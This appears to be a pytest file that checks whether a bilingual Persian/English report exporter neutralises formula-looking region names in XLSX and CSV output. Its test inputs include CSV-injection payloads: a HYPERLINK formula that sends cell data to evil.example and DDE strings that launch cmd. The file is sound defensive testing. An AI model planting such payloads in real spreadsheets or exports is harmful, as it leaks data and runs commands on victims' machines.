"""Hostile exports: a name that starts like a formula is written into the XLSX and CSV reports
as text, never as a live formula (Excel, LibreOffice and Sheets would run `=HYPERLINK(…)`)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from documents.reports import shown, write_csv, write_xlsx
from scoring.stats import OfficeResult, PeriodStats, period_stats

# (input: the first region's name, as a hostile registry file could spell it)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"بیشتر")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def _stats(name: str) -> PeriodStats:
    regions = {"1": (name, name), "2": ("شمال غرب", "North-West")}
    results = [OfficeResult("urban", "1", True, 1), OfficeResult("urban", "2", True, 2),
               OfficeResult("rural_ict", "1", False, None)]
    return period_stats(results, regions, "ششماههٔ نخست ۱۴۰۴", "H1 1404")


@pytest.mark.parametrize("name", FORMULAS)
@pytest.mark.parametrize("lang", ["fa", "en"])
def test_xlsx_writes_a_formula_looking_name_as_text(tmp_path: Path, name: str, lang: str
                                                    ) -> None:
    path = write_xlsx(_stats(name), tmp_path / "report.xlsx", lang)
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
    expected = shown(name, lang).strip()  # a Persian report reads its digits in Persian
    found = [c for c in cells if isinstance(c.value, str) and expected in c.value]
    assert found, "the name is kept, as text"
    assert all(c.data_type == "s" and c.quotePrefix for c in found)


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_writes_a_formula_looking_name_with_a_quote_first(tmp_path: Path, name: str
                                                               ) -> None:
    paths = write_csv(_stats(name), tmp_path)
    seen = False
    for path in paths:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for value in row:
                    assert not value or value[0] not in "=+-@\t\r", (path.name, value)
                    seen = seen or value == "'" + shown(name, "fa")  # the report's language
    assert seen


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    path = write_xlsx(_stats("=1+1"), tmp_path / "report.xlsx")
    sheet = load_workbook(path).worksheets[0]
    assert all(isinstance(v, int | float) for v in list(sheet.iter_rows(values_only=True))[1][1:])
